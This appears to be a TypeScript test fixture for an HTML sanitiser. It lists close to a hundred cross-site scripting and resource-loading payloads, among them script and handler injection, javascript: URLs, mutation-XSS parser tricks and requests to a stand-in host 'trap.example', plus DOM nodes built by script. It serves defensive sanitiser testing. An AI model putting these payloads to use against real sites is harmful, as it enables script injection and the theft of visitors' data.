/**
 * What a page would write to have its script run, or its server told, when somebody opens the kept markup years later.
 * Each calls `hacked()`, or names `trap.example`. Taken from the known techniques (scripts, handlers, addresses,
 * styles, foreign content, raw text, mutation), and from what this project's first sanitiser let through.
 */
export const HOSTILE: readonly string[] = [
  // Scripts, and what contains them.
  '<script>hacked()</script>',
  '<script src="https://trap.example/a.js"></script>',
  '<svg><script>hacked()</script></svg>',
  '<math><script>hacked()</script></math>',
  '<noscript><p title="</noscript><img src=x onerror=hacked()>"></noscript>',
  '<template><img src=x onerror=hacked()></template>',
  '<template shadowrootmode="open"><script>hacked()</script></template>',
  // Event handlers.
  '<img src=x onerror=hacked()>',
  '<IMG SRC=x OnErRoR=hacked()>',
  '<body onload=hacked()>',
  '<b onclick=hacked()>x</b>',
  '<details open ontoggle=hacked()>x</details>',
  '<div onanimationstart=hacked() style="animation:x 1s">x</div>',
  '<video><source onerror=hacked()></video>',
  '<input autofocus onfocus=hacked()>',
  '<svg onload=hacked()></svg>',
  '<svg><animate onbegin=hacked() attributeName=x dur=1s></animate></svg>',
  '<a id=x tabindex=1 onfocus=hacked() autofocus>x</a>',
  '<marquee onstart=hacked()>x</marquee>',
  '<div contenteditable=false oninput=hacked()>x</div>',
  '<dialog open onclose=hacked()>x</dialog>',
  '<p popover onbeforetoggle=hacked()>x</p>',
  // Addresses that execute.
  '<a href="javascript:hacked()">x</a>',
  '<a href=" \u0001java\tscr\nipt:hacked()">x</a>',
  '<a href="&#106;avascript:hacked()">x</a>',
  '<a href="JaVaScRiPt:hacked()">x</a>',
  '<a href="vbscript:hacked()">x</a>',
  '<a href="data:text/html,<script>hacked()</script>">x</a>',
  '<a href="data:image/svg+xml,<svg onload=hacked()>">x</a>',
  '<a href="blob:https://trap.example/1">x</a>',
  '<svg><a xlink:href="javascript:hacked()"><text>x</text></a></svg>',
  '<math><mtext href="javascript:hacked()">x</mtext></math>',
  '<math><maction actiontype="statusline#x" xlink:href="javascript:hacked()">x</maction></math>',
  '<svg><a><animate attributeName=href values="javascript:hacked()"></animate><text>x</text></a></svg>',
  '<svg><a><set attributeName="href" to="javascript:hacked()"></set><text>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=hacked()></svg>#x"></use></svg>',
  '<area href="javascript:hacked()">',
  // What loads by itself.
  '<img src="https://trap.example/a.png">',
  '<img srcset="https://trap.example/a.png 1x">',
  '<picture><source srcset="https://trap.example/a.png"><img></picture>',
  '<img lowsrc="https://trap.example/a" dynsrc="https://trap.example/b" longdesc="https://trap.example/c">',
  '<div style="background:url(https://trap.example/a)">x</div>',
  '<div style="background:image-set(\'https://trap.example/a\' 1x)">x</div>',
  '<div style="behavior:url(#x);-moz-binding:url(https://trap.example/a)">x</div>',
  '<style>@import "https://trap.example/a";</style>',
  '<svg><style>@import "https://trap.example/a";</style></svg>',
  '<link rel=stylesheet href="https://trap.example/a.css">',
  '<link rel=dns-prefetch href="//trap.example">',
  '<table background="https://trap.example/a"><tr><td>x</td></tr></table>',
  '<video poster="https://trap.example/a" src="https://trap.example/b" autoplay></video>',
  '<audio src="https://trap.example/a" autoplay></audio>',
  '<video><track default src="https://trap.example/a"></video>',
  '<svg><image href="https://trap.example/a"></image></svg>',
  '<svg><feImage href="https://trap.example/a"></feImage></svg>',
  '<svg><rect fill="url(https://trap.example/a#b)"></rect></svg>',
  '<iframe src="https://trap.example/a"></iframe>',
  '<iframe srcdoc="<script>parent.hacked()</script>"></iframe>',
  '<object data="https://trap.example/a"></object>',
  '<embed src="https://trap.example/a">',
  '<applet code=x codebase="https://trap.example/a"></applet>',
  '<frameset><frame src="https://trap.example/a"></frameset>',
  '<portal src="https://trap.example/a"></portal>',
  '<fencedframe src="https://trap.example/a"></fencedframe>',
  // What navigates or submits.
  '<meta http-equiv=refresh content="0;url=https://trap.example/a">',
  '<meta http-equiv="Content-Security-Policy" content="script-src *">',
  '<base href="https://trap.example/">',
  '<form action="https://trap.example/a"><button>x</button></form>',
  '<button formaction="javascript:hacked()">x</button>',
  '<input type=image src="https://trap.example/a" formaction="https://trap.example/b">',
  '<isindex type=image src=x action="javascript:hacked()">',
  '<a href="https://exempel.se" ping="https://trap.example/a" target=_top download>x</a>',
  '<div is="x-y" slot="z" part="w" nonce="q" itemprop="url" itemid="https://trap.example">x</div>',
  // Raw text: text for one parser, tags for another.
  '<xmp><img src=x onerror=hacked()></xmp>',
  '<noembed><img src=x onerror=hacked()></noembed>',
  '<noframes><img src=x onerror=hacked()></noframes>',
  '<textarea></textarea><img src=x onerror=hacked()>',
  '<title></title><img src=x onerror=hacked()>',
  '<listing>&lt;img src=x onerror=hacked()&gt;</listing>',
  '<!--><img src=x onerror=hacked()>-->',
  '<!-- --!><img src=x onerror=hacked()> -->',
  '<?xml-stylesheet href="https://trap.example/a"?><![CDATA[<img src=x onerror=hacked()>]]>',
  '<p>&lt;script&gt;hacked()&lt;/script&gt;</p>',
  '<p title="&quot;&gt;&lt;img src=x onerror=hacked()&gt;">x</p>',
  '<p data-x="`><img src=x onerror=hacked()>" aria-label="\'><script>hacked()</script>">x</p>',
  '<plaintext><img src=x onerror=hacked()>',
  // Mutation: a different tree when it is parsed again.
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hacked()&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=hacked()>',
  '<svg></p><style><a id="</style><img src=1 onerror=hacked()>">',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=hacked()></annotation-xml></math>',
  '<svg><foreignObject><iframe srcdoc="<script>parent.hacked()</script>"></iframe></foreignObject></svg>',
  '<svg><desc><![CDATA[</desc><script>hacked()</script>]]></svg>',
  '<table><tr><td><svg><title><b></td><img src=x onerror=hacked()></table>',
  '<select><option><style></select><img src=x onerror=hacked()></style></select>',
  '<a><b><a href="javascript:hacked()"><p></b>x</a></p></a>',
];

/** Markup that no parser produces but a script on the page can. */
export function builtByScript(document: Document): Element[] {
  const made = (name: string, inside = ''): Element => {
    const element = document.createElement(name);
    element.textContent = inside;
    return element;
  };
  const withAttribute = (name: string, value: string): Element => {
    const element = made('p', 'x');
    const box = document.createElement('div');
    box.innerHTML = `<p ${name}="">x</p>`;
    const [attribute] = box.firstElementChild?.attributes ?? [];
    if (attribute === undefined) return element;
    const copy = attribute.cloneNode() as Attr;
    copy.value = value;
    element.setAttributeNode(copy);
    return element;
  };
  const SVG = 'http://www.w3.org/2000/svg';
  const foreign = document.createElementNS('urn:strange', 'p');
  foreign.setAttribute('onclick', 'hacked()');
  const scriptInSvg = document.createElementNS(SVG, 'SCRIPT');
  scriptInSvg.textContent = 'hacked()';
  const inParagraph = made('p');
  inParagraph.append(
    made('table'),
    made('p', '<script>hacked()</script>'),
    document.createComment('--><b onclick=hacked()>'),
  );
  const linked = document.createElementNS(SVG, 'a');
  linked.setAttributeNS('http://www.w3.org/1999/xlink', 'xlink:href', 'javascript:hacked()');
  return [
    made('xmp', '</xmp><script>hacked()</script>'),
    made('noscript', '</noscript><img src=x onerror=hacked()>'),
    made('style', '</style><img src=x onerror=hacked()>'),
    made('title', '</title><img src=x onerror=hacked()>'),
    made('plaintext', '<img src=x onerror=hacked()>'),
    withAttribute('"><img/src=x/onerror=hacked()', 'x'),
    withAttribute('data-"onclick', 'hacked()'),
    withAttribute('data-uppsikt-element', '"><script>hacked()</script>'),
    foreign,
    scriptInSvg,
    inParagraph,
    linked,
  ];
}
